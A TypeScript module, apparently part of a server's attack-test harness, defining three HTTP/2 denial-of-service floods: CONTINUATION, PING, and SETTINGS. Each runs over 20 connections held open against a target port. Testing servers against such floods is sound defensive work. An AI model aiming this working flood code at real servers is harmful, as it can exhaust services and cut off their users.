import { block, flags, frame, get, preface, settingsOf } from "../../../test/support/http2-frames.ts";
import type { Attack, Target } from "../attack.ts";
import { keepOpen, pour, type Reading } from "../connections.ts";

/** Sends the same frame without end, as fast as the server takes it. */
function flood({ port }: Target, { first = [], flood, reading }: Flood): void {
  const greeting = Buffer.concat([preface, frame("settings", 0, 0), ...first]);
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => flood));
  const use = (socket: Parameters<typeof pour>[0]) => {
    socket.write(greeting);
    pour(socket, many);
  };
  keepOpen(20, port, use, reading);
}

type Flood = { readonly first?: readonly Buffer[]; readonly flood: Buffer; readonly reading: Reading };

export const continuationFlood: Attack = {
  what: "20 HTTP/2 connections continue the headers of a request without end",
  begin: (target) =>
    flood(target, {
      first: [frame("headers", flags.endStream, 1, get("/healthz"))],
      flood: frame("continuation", 0, 1, block([["x-endless", "x".repeat(64)]])),
      reading: "reads",
    }),
};

export const pingFlood: Attack = {
  what: "20 HTTP/2 connections send PING, as fast as the server takes it",
  begin: (target) => flood(target, { flood: frame("ping", 0, 0, Buffer.alloc(8)), reading: "reads" }),
};

export const settingsFlood: Attack = {
  what: "20 HTTP/2 connections send SETTINGS, as fast as the server takes them, and never read",
  begin: (target) => flood(target, { flood: frame("settings", 0, 0, settingsOf([4, 65_535])), reading: "never reads" }),
};
